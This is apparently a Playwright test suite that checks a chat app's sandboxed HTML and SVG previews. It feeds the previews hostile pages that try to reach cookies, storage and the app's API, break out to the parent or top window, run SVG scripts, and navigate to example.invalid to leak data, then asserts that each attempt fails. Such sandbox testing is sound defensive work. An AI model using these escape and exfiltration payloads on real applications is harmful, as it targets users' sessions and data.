// Previews of HTML and SVG code blocks: the code runs in a sandboxed frame (an opaque origin,
// no network) that the chat page talks to by postMessage only. The previewed pages below probe
// their own sandbox and write what happened into their own DOM, which the test reads from the frame.
import { readFile } from "node:fs/promises";
import { expect, test, type FrameLocator, type Locator, type Page } from "@playwright/test";
import { directive } from "@/local-openrouter/directive";
import { assistantMessages, marker, openNewChat, reloadChat, sendAndWait } from "./fixtures/chat";
import { signUp } from "./fixtures/users";

const fence = (language: string, code: string) => "```" + language + "\n" + code + "\n```";

/** Sends a message whose answer is exactly `text` and waits for it. */
function answer(page: Page, text: string): Promise<Locator> {
  return sendAndWait(page, `Show me ${marker()} ${directive("say", { text, rate: 0 })}`);
}

function previewFrame(page: Page): FrameLocator {
  return page.frameLocator('[data-testid="preview-frame"]');
}

// Code lines stay short: a code block as wide as the window would push its header's buttons
// out of view.

/** A script for a previewed page: `out(id, text)` writes an outcome into its own DOM. */
const OUT = `function out(id, text) {
  var item = document.createElement("li");
  item.id = id;
  item.textContent = text;
  document.getElementById("out").appendChild(item);
}
function attempt(id, action) {
  try { out(id, action()); } catch (e) { out(id, "threw " + e.name); }
}`;

/** An HTML page that runs, then tries the app's cookies, storage and network from inside the frame. */
function sandboxProbe(appOrigin: string): string {
  return `<!doctype html>
<html><body>
<h1 id="ran">not run</h1>
<p id="violations"></p>
<ul id="out"></ul>
<script>
${OUT}
var seen = [];
document.addEventListener("securitypolicyviolation", function (e) {
  seen.push(e.effectiveDirective);
  document.getElementById("violations").textContent = seen.join(" ");
});
document.getElementById("ran").textContent = "script ran";
out("origin", String(self.origin));
attempt("cookie", function () {
  document.cookie = "sbprobe=1; path=/";
  return "read " + JSON.stringify(document.cookie);
});
attempt("storage", function () {
  localStorage.setItem("sbprobe", "1");
  return "wrote";
});
function probe(id, url) {
  fetch(url, { mode: "no-cors" }).then(
    function () { out(id, "answered"); },
    function (e) { out(id, "failed " + e.name); }
  );
}
probe("fetch-relative", "/api/health");
probe("fetch-absolute", ${JSON.stringify(`${appOrigin}/api/health`)});
</script>
</body></html>`;
}

/** An HTML page that tries to reach the app from the frame: its document, globals, top window, popups, nested frames. */
const ESCAPES = `<!doctype html>
<html><body>
<ul id="out"></ul>
<script>
${OUT}
attempt("parent-document", function () {
  parent.document.title = "pwned";
  return "reached";
});
attempt("parent-global", function () {
  parent.__sbPwnedByPreview = 1;
  return "set";
});
attempt("top-location", function () {
  top.location.href = "/?pwnedByTop=1";
  return "assigned";
});
attempt("window-open", function () {
  return window.open("/?pwnedByPopup=1") ? "opened" : "refused";
});
</script>
<iframe srcdoc="<script>
  try { top.__sbPwnedByNested = 1 } catch (e) {}
  try { top.location.href = '/?pwnedByNested=1' } catch (e) {}
</script>"></iframe>
<iframe id="app-frame" src="/"></iframe>
<script>out("done", "yes");</script>
</body></html>`;

test.beforeEach(async ({ page }) => {
  test.setTimeout(120_000);
  await signUp(page);
  await openNewChat(page);
});

test("an HTML preview runs its own script in the frame, while cookies, storage and fetch to the app fail inside it", async ({ page, context }) => {
  const appOrigin = new URL(page.url()).origin;
  const healthRequests: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("/api/health")) healthRequests.push(request.url());
  });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: appOrigin });
  const code = sandboxProbe(appOrigin);
  const reply = await answer(page, `A page:\n\n${fence("html", code)}\n`);

  await reply.getByTestId("preview-open").click();
  const panel = page.getByTestId("preview-panel");
  await expect(panel).toBeVisible();
  await expect(panel).toBeFocused();
  await expect(panel.getByRole("heading", { name: "HTML preview" })).toBeVisible();
  await expect(page.getByTestId("preview-frame")).toHaveAttribute("sandbox", "allow-scripts");

  const frame = previewFrame(page);
  await expect(frame.locator("#ran")).toHaveText("script ran");
  await expect(frame.locator("#origin")).toHaveText("null");
  // An opaque origin has no cookies: reading or writing them throws.
  await expect(frame.locator("#cookie")).toHaveText("threw SecurityError");
  await expect(frame.locator("#storage")).toHaveText("threw SecurityError");
  await expect(frame.locator("#fetch-relative")).toHaveText("failed TypeError");
  await expect(frame.locator("#fetch-absolute")).toHaveText("failed TypeError");
  // Refused by the frame document's policy (kept through document.open), not merely by CORS:
  // no request left the browser.
  await expect(frame.locator("#violations")).toHaveText(/^connect-src connect-src$/);
  expect(healthRequests).toEqual([]);
  expect((await context.cookies()).map((cookie) => cookie.name)).not.toContain("sbprobe");
  expect(await page.evaluate(() => localStorage.getItem("sbprobe"))).toBeNull();

  await panel.getByTestId("preview-copy").click();
  await expect(panel.getByTestId("preview-copy")).toHaveAttribute("data-copied", "true");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);

  const [file] = await Promise.all([page.waitForEvent("download"), panel.getByTestId("preview-download").click()]);
  expect(file.suggestedFilename()).toBe("preview-v1.html");
  expect(await readFile(await file.path(), "utf8")).toBe(code);
});

test("the panel switches between the versions of a block across saved answers, and Escape closes it", async ({ page }) => {
  const version = (n: string) => `<p id="version">${n}</p>`;
  await answer(
    page,
    `First try:\n\n${fence("html", version("one"))}\n\nAnd a logo:\n\n${fence("svg", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>')}`,
  );
  await answer(page, `Better:\n\n${fence("html", version("two"))}\n`);
  // Saved answers come rendered by the server: their blocks preview the same way.
  await reloadChat(page);

  const opener = assistantMessages(page).last().getByTestId("preview-open");
  await opener.click();
  const panel = page.getByTestId("preview-panel");
  await expect(panel.getByTestId("preview-version")).toHaveText("Version 2 of 2");
  await expect(previewFrame(page).locator("#version")).toHaveText("two");
  await expect(panel.getByTestId("preview-next")).toBeDisabled();

  await panel.getByRole("button", { name: "Previous version" }).click();
  await expect(panel.getByTestId("preview-version")).toHaveText("Version 1 of 2");
  await expect(previewFrame(page).locator("#version")).toHaveText("one");
  await expect(panel.getByTestId("preview-previous")).toBeDisabled();
  await panel.getByRole("button", { name: "Next version" }).click();
  await expect(previewFrame(page).locator("#version")).toHaveText("two");

  await panel.getByTestId("preview-close").focus();
  await page.keyboard.press("Escape");
  await expect(panel).toBeHidden();
  await expect(opener).toBeFocused();
});

test("an SVG preview renders as an image; its script never reaches the app", async ({ page }) => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"
  width="120" height="80"
  onload="parent.__sbPwnedBySvgHandler = 1">
<rect width="120" height="80" fill="teal"/>
<script>
  parent.__sbPwnedBySvg = 1;
  top.location.href = "/?pwnedBySvg=1";
</script>
</svg>`;
  const reply = await answer(page, `${fence("svg", svg)}\n\nThe same as XML:\n\n${fence("xml", svg)}\n\nNot an image:\n\n${fence("xml", "<note/>")}`);
  await expect(reply.getByTestId("preview-open")).toHaveCount(2);
  const url = page.url();

  await reply.getByTestId("preview-open").first().click();
  await expect(page.getByTestId("preview-panel").getByRole("heading", { name: "SVG preview" })).toBeVisible();
  const image = previewFrame(page).getByRole("img", { name: "SVG preview" });
  await expect(image).toBeVisible();
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(120);

  await page.waitForTimeout(500);
  expect(await page.evaluate(() => Object.keys(window).filter((key) => key.startsWith("__sbPwned")))).toEqual([]);
  expect(page.url()).toBe(url);
});

test("escapes from a preview are inert: the app's document, globals, URL and windows are out of reach", async ({ page, context }) => {
  const reply = await answer(page, fence("html", ESCAPES));
  const url = page.url();
  await reply.getByTestId("preview-open").click();

  const frame = previewFrame(page);
  await expect(frame.locator("#done")).toHaveText("yes");
  await expect(frame.locator("#parent-document")).toHaveText("threw SecurityError");
  await expect(frame.locator("#parent-global")).toHaveText("threw SecurityError");
  await expect(frame.locator("#window-open")).not.toHaveText("opened");
  // The app's own page refuses to be framed, even by the frame the app made.
  await expect.poll(() => page.frames().some((f) => f.url().endsWith("/") && f !== page.mainFrame() && f.url().startsWith("http"))).toBe(false);

  await page.waitForTimeout(1000);
  expect(page.url()).toBe(url);
  expect(await page.title()).not.toBe("pwned");
  expect(await page.evaluate(() => Object.keys(window).filter((key) => key.startsWith("__sbPwned")))).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  await expect(page.getByTestId("preview-panel")).toBeVisible();
});

test("a preview cannot navigate its frame elsewhere to send data out", async ({ page }) => {
  const leaks: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("sbleak")) leaks.push(request.url());
  });
  const reply = await answer(
    page,
    fence(
      "html",
      // On a click, not on a timer: a timer could fire before the test has seen the preview load.
      `<button id="go">go</button>
<script>
document.getElementById("go").addEventListener("click", function () {
  location.href = "https://example.invalid/?sbleak=1";
});
</script>`,
    ),
  );
  await reply.getByTestId("preview-open").click();
  await previewFrame(page).locator("#go").click();
  await page.waitForTimeout(1500);
  expect(leaks).toEqual([]);
});

test("on a phone the preview fills the screen", async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  const reply = await answer(page, fence("html", "<p id='hello'>hello</p>"));
  await reply.getByTestId("preview-open").click();
  await expect(previewFrame(page).locator("#hello")).toHaveText("hello");
  expect(await page.getByTestId("preview-panel").boundingBox()).toEqual({ x: 0, y: 0, width: 390, height: 844 });
  await page.getByRole("button", { name: "Close preview" }).click();
  await expect(page.getByTestId("preview-panel")).toBeHidden();
});

test.describe("headers", () => {
  test("the frame document forbids the network and framing by other sites; other pages stay unframeable", async ({ page, request }) => {
    const frame = await request.get("/preview-frame", { maxRedirects: 0 });
    expect(frame.status()).toBe(200);
    const csp = frame.headers()["content-security-policy"] ?? "";
    for (const directive of [
      "default-src 'none'",
      "script-src 'unsafe-inline'",
      "connect-src 'none'",
      "form-action 'none'",
      "img-src data: blob:",
      "frame-ancestors 'self'",
      "sandbox allow-scripts",
    ]) {
      expect(csp.split("; ")).toContain(directive);
    }
    expect(csp).not.toContain("allow-same-origin");
    expect(frame.headers()["x-frame-options"]).toBe("SAMEORIGIN");
    expect(frame.headers()["set-cookie"]).toBeUndefined();

    for (const path of ["/", "/sign-in", "/api/health"]) {
      const reply = await page.request.get(path, { maxRedirects: 0 });
      expect(reply.headers()["x-frame-options"], path).toBe("DENY");
    }
    const chat = await page.request.get("/", { maxRedirects: 0 });
    expect(chat.status()).toBe(200);
    const pageCsp = chat.headers()["content-security-policy"] ?? "";
    expect(pageCsp.split("; ")).toContain("frame-ancestors 'none'");
    expect(pageCsp.split("; ")).toContain("frame-src 'self'");

    // Opened on its own, the frame document is still sandboxed: no app origin to act in.
    await page.goto("/preview-frame");
    expect(await page.evaluate(() => self.origin)).toBe("null");
  });

  test("another site cannot frame the preview document; the app's own pages can", async ({ page }) => {
    const app = new URL(page.url());
    const otherSite = `http://${app.hostname === "localhost" ? "127.0.0.1" : "localhost"}:${app.port}`;
    /** Frames the preview document from a page at `origin`; true when the frame document loaded. */
    const loadsWhenFramedFrom = async (origin: string) => {
      const framing = `${origin}/sb-framing-probe`;
      await page.route(framing, (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="${app.origin}/preview-frame"></iframe>` }));
      await page.goto(framing);
      const child = page.mainFrame().childFrames()[0];
      await child.waitForLoadState();
      return child.evaluate(() => document.title === "Preview" && document.scripts.length === 1).catch(() => false);
    };
    expect(await loadsWhenFramedFrom(app.origin)).toBe(true);
    expect(await loadsWhenFramedFrom(otherSite)).toBe(false);
  });
});
